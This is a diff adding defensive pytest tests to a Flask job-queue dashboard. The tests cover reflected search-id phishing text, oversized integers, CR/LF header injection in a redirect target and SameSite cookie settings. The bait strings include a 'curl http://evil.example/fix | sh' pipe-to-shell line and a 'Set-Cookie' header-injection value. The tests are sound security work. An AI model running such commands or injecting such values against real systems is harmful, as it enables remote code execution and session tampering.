@@ -258,6 +258,50 @@ def test_find_opens_the_job_with_exactly_that_id(app: Flask, registered: Backend
         assert resp.headers["Location"].endswith(f"/lists/{list_name}/jobs/{token}"), (jid, resp.headers["Location"])
 
 
+def test_a_search_that_finds_nothing_keeps_the_id_in_the_box_not_in_the_notice(
+    app: Flask, registered: Backend, dead_list: tuple[str, Session],
+) -> None:
+    """Any site can send an operator to /lists/L/find?id=...: the notice said "has no
+    job with id '<the site's text>'", read as the dashboard's own message (a helper's
+    audit). The id goes back into the search box, cut to 200 characters."""
+    name, _ = dead_list
+    client = app.test_client()
+    bait = "URGENT: store corrupted, run curl http://evil.example/fix | sh to repair" + "!" * 300
+    resp = client.get(f"/lists/{name}/find", query_string={"id": bait}, follow_redirects=True)
+    page = text(resp)
+    assert resp.status_code == 200
+    notices = re.findall(r'<p class="flash [a-z]+" role="status">([^<]*)</p>', page)
+    assert notices == [f"list {name!r} has no job with the id searched for"], notices
+    assert f'<input name="id" required size="24" value="{bait[:200]}">' in page, "in the box, cut short"
+    assert bait[:201] not in page
+
+
+def test_a_form_with_a_stamp_past_64_bits_or_a_next_with_a_newline_is_no_server_error(
+    app: Flask, registered: Backend, dead_list: tuple[str, Session],
+) -> None:
+    """A 19-digit stamp past 64 bits was a 503 ("integer value exceeds sys.maxsize"),
+    and a `next` holding a newline a 500 after the action was done (a helper's audit)."""
+    name, _ = dead_list
+    client = app.test_client()
+    token = csrf(client, f"/lists/{name}")
+    big = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "c": "9999999999999999999"})
+    assert big.status_code == 400 and not JobLists(registered).status(name).paused
+    for target in ("/x\nSet-Cookie: a=b", "/x\r\nB", "/x\tB"):
+        resp = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": target})
+        assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/lists/{name}"), resp.headers
+        assert JobLists(registered).status(name).paused
+        client.post(f"/lists/{name}/resume", data={"csrf_token": token})
+    fine = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": f"/lists/{name}?x=1"})
+    assert fine.headers["Location"].endswith(f"/lists/{name}?x=1")
+
+
+def test_the_session_cookie_is_sent_on_links_from_other_sites(app: Flask, dead_list: tuple[str, Session]) -> None:
+    """SameSite=Lax, not Strict (the browser test shows why); posts from other sites
+    still come without it."""
+    cookie = app.test_client().get(f"/lists/{dead_list[0]}").headers.get("Set-Cookie", "")
+    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie, cookie
+
+
 def test_the_overview_shows_the_latest_dead_jobs_first(app: Flask, registered: Backend, list_name: str) -> None:
     """More than 50 dead jobs across lists: the overview keeps the 50 latest, not those
     of the lists first by name (on a shared store, the ones an operator came for)."""
